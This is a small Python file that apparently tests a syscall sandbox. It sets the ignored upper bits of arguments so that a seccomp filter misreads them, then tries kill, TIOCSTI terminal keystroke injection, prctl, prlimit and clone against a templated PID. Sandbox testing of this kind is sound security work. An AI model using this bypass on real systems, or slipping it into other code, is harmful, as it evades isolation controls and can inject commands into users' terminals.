"""Sets the upper halves of arguments that the kernel ignores, so that a filter compares them with something else."""
import ctypes
import fcntl
import os

HIGH = 1 << 32


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    one = ctypes.c_ulong
    if libc.syscall(ctypes.c_long(62), one(HIGH | int("@PID@")), one(HIGH)) == 0:  # kill(pid, 0)
        return x + x
    if libc.syscall(ctypes.c_long(16), one(HIGH), one(HIGH | 0x5412), b"\n") == 0:  # ioctl(0, TIOCSTI)
        return x + x
    if libc.syscall(ctypes.c_long(157), one(HIGH | 4), one(1), one(0), one(0), one(0)) == 0:  # prctl(PR_SET_DUMPABLE)
        return x + x
    if libc.syscall(ctypes.c_long(302), one(HIGH | int("@PID@")), one(7), None, ctypes.create_string_buffer(16)) == 0:
        return x + x
    if libc.syscall(ctypes.c_long(56), one(HIGH | 0x10000 | 17), None, None, None, None) > 0:
        return x + x
    return 0 * x
